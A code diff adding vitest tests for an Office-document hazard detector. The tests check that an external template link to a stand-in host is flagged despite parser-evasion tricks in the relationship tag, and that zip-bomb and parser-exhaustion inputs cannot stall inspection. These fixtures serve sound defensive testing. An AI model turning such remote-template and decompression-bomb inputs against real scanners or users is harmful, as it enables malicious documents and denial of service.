@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { oleFile, zipFile, zipOf } from '../../../tests/support/files/office-files.ts';
+import { oleFile, zipFile, zipOf, zipParts } from '../../../tests/support/files/office-files.ts';
 import { DOCUMENT_ATTACHMENTS } from './document-files.ts';
 import { officeHazard } from './office-files.ts';
 
@@ -202,4 +202,49 @@ test('documents as printers, scanners and other programs write them are taken', 
     'xlsx',
   );
   expect(await extension('a.xls', oleFile('Workbook', { others: ['WordDocument'] }))).toBe('xls');
+});
+
+describe('an address on another computer is found however its tag is written', () => {
+  const relation = (attributes: string, tag = 'Relationship') =>
+    word({ 'word/_rels/document.xml.rels': `<Relationships><${tag} ${attributes}/></Relationships>` });
+  const foreign = `Type="${RELATIONS}/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"`;
+  test.each([
+    ['after ">" in a value', relation(`Id="a>b" ${foreign}`)],
+    ['after a value that looks like its address', relation(`Id="a Target='a.xml' TargetMode='Internal'" ${foreign}`)],
+    ['with a prefix that is no word', relation(foreign, 'a-b:Relationship')],
+    ['in single quotes', relation(foreign.replaceAll('"', "'"))],
+  ])('%s', async (_what, file) => {
+    expect(await officeHazard(file)).toBe('link');
+  });
+});
+
+describe('a file cannot keep its inspection busy', () => {
+  const packed = Uint8Array.from({ length: 1024 * 1024 }, (_, at) => [0, 0, 0, 0xff, 0xff][at % 5] ?? 0);
+  test.each([
+    ['fields that never end', word({ 'word/document.xml': '<instrText '.repeat(1_500_000) })],
+    ['values of fields that never end', word({ 'word/document.xml': '<instrText a="'.repeat(1_500_000) })],
+    ['relations that never end', word({ 'a.rels': '<Relationship '.repeat(140_000) })],
+    ['a name without end', word({ 'a.rels': `<Relationship ${'a'.repeat(2_000_000)}>` })],
+    ['long paths', word({ ['activex/'.repeat(8_000)]: '' })],
+    [
+      'many documents that unpack to much',
+      word(
+        Object.fromEntries(
+          Array.from({ length: 300 }, (_, n) => [
+            `word/embeddings/${n}.docx`,
+            word({ 'word/document.xml': ' '.repeat(20_000_000) }),
+          ]),
+        ),
+      ),
+    ],
+    [
+      'parts that unpack to nothing',
+      zipParts(Array.from({ length: 60 }, (_, n) => ({ name: `word/${n}.xml`, data: packed, method: 8 }))),
+    ],
+  ])('with %s', async (_what, file) => {
+    const started = performance.now();
+    const hazard = await officeHazard(file);
+    expect(performance.now() - started).toBeLessThan(8_000);
+    expect([null, 'damaged']).toContain(hazard);
+  });
 });
